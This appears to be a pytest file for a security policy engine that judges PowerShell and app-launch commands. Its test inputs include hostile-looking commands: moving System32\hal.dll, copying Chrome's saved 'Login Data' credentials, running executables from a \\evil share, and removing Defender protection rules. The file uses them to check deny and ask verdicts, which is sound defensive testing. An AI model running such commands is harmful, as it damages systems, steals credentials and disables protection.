"""Stop 31's attacker pass: `MoveTo`/`CopyTo` (S-RULE-102), wrappers run from a share (S-RULE-31), Defender (106).

`(Get-Item C:\\Windows\\System32\\hal.dll).MoveTo('C:\\x.dll')` was allowed: `Delete()` on such an
object was read, its move and copy were not. The object is filled in from the command that made it
(`effects_values`), as for `Delete()`.
"""

from __future__ import annotations

import pytest

from tests._requirements import requirement
from tests.policy.verdicts import ps, ps_effects, verdict

HAL = r"C:\Windows\System32\hal.dll"
LOGIN = r"C:\Users\me\AppData\Local\Google\Chrome\User` Data\Default\Login` Data"


@requirement("S-RULE-102")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (rf"(gi {HAL}).MoveTo('C:\x.dll')", ("protected-place-delete", "deny")),
        (rf"$x = gi {HAL}; $x.MoveTo('C:\x.dll')", ("protected-place-delete", "deny")),
        (rf"foreach ($f in Get-ChildItem {HAL}) {{ $f.MoveTo('D:\x') }}", ("protected-place-delete", "deny")),
        (rf"(Get-Item {LOGIN}).CopyTo('C:\t\x')", ("credential-access", "deny")),
        (rf"(Get-Item {LOGIN}).CopyTo('C:\t\x', $true)", ("credential-access", "deny")),
        (r"(Get-Item C:\Users\me\a.txt).CopyTo('C:\Windows\System32\a.txt', 1)", ("protected-place-write", "deny")),
        (r"(Get-Item C:\Users\me\a.txt).MoveTo('D:\a.txt')", None),
        (r"(Get-Item C:\Users\me\a.txt).CopyTo('D:\a.txt', $true)", None),
        # An array's CopyTo(array, index) has the same name; an unknown destination asks either way.
        ("$a = 1,2; $b = New-Object int[] 2; $a.CopyTo($b, 0)", ("dynamic-command", "ask")),
    ],
    ids=[
        "move-system",
        "move-variable",
        "move-loop",
        "copy-store",
        "copy-store-flag",
        "copy-into-system",
        "move-own",
        "copy-own",
        "array-copy",
    ],  # fmt: skip
)
def test_an_item_objects_move_and_copy_are_judged_as_the_cmdlets(command: str, expected: object) -> None:
    """S-RULE-102: `.MoveTo`/`.CopyTo` move or read the object its maker named, and write the argument."""
    assert ps(command) == expected


@requirement("S-RULE-102")
def test_move_to_moves_the_made_object_and_writes_the_destination() -> None:
    """S-RULE-102: the effects are a move of the maker's path and a write of the one argument."""
    effects = {(e.kind.value, e.target) for e in ps_effects(rf"(Get-Item {HAL}).MoveTo('C:\t\hal.dll')")}
    assert ("move", HAL) in effects
    assert ("write", r"C:\t\hal.dll") in effects


@requirement("S-RULE-31")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (r"explorer \\evil\share\x.exe", ("remote-code", "ask")),
        (r'explorer.exe "\\evil\share\setup.exe"', ("remote-code", "ask")),
        (r"conhost \\evil\s\x.exe", ("remote-code", "ask")),
        (r"explorer \\fileserver\drops", None),  # a folder: only a window opens
        (r"explorer /select, \\evil\share\x.exe", None),  # shown, not run
        (r"explorer C:\t\tool.exe", None),
    ],
    ids=["explorer", "explorer-quoted", "conhost", "share-folder", "select", "local"],
)
def test_a_program_a_wrapper_starts_from_a_share_asks(command: str, expected: object) -> None:
    """S-RULE-31: `explorer`/`conhost`/`runas` starting a program from another machine's share is remote code."""
    assert ps(command) == expected


@requirement("S-RULE-31")
def test_the_app_tool_opening_a_program_on_a_share_through_explorer_asks() -> None:
    """S-RULE-31: App launch of explorer with a share's program as its argument asks `remote-code`."""
    assert verdict("App", mode="launch", name="explorer", args="\\\\evil\\share\\x.exe") == ("remote-code", "ask")


@requirement("S-RULE-106")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("Remove-MpPreference -AttackSurfaceReductionRules_Ids x", ("disable-defender", "deny")),
        (
            "Remove-MpPreference -AttackSurfaceReductionRules_Act Enabled -AttackSurfaceReductionRules_Ids x",
            ("disable-defender", "deny"),
        ),
        (
            r"Remove-MpPreference -ControlledFolderAccessProtectedFolders C:\Users\me\Documents",
            ("disable-defender", "deny"),
        ),
        (r"Remove-MpPreference -ExclusionPath C:\t", None),
        (r"Remove-MpPreference -ControlledFolderAccessAllowedApplications C:\t\app.exe", None),
        (r"Remove-MpPreference -AttackSurfaceReductionOnlyExclusions C:\t", None),
        ("Remove-MpPreference -ThreatIDDefaultAction_Ids 123", None),
    ],
    ids=[
        "asr-rule",
        "asr-abbreviated",
        "protected-folder",
        "exclusion",
        "allowed-app",
        "asr-exclusion",
        "threat-action",
    ],
)
def test_removing_protection_from_defender_is_refused(command: str, expected: object) -> None:
    """S-RULE-106: an ASR rule or a protected folder removed turns protection off; removing an exception does not."""
    assert ps(command) == expected
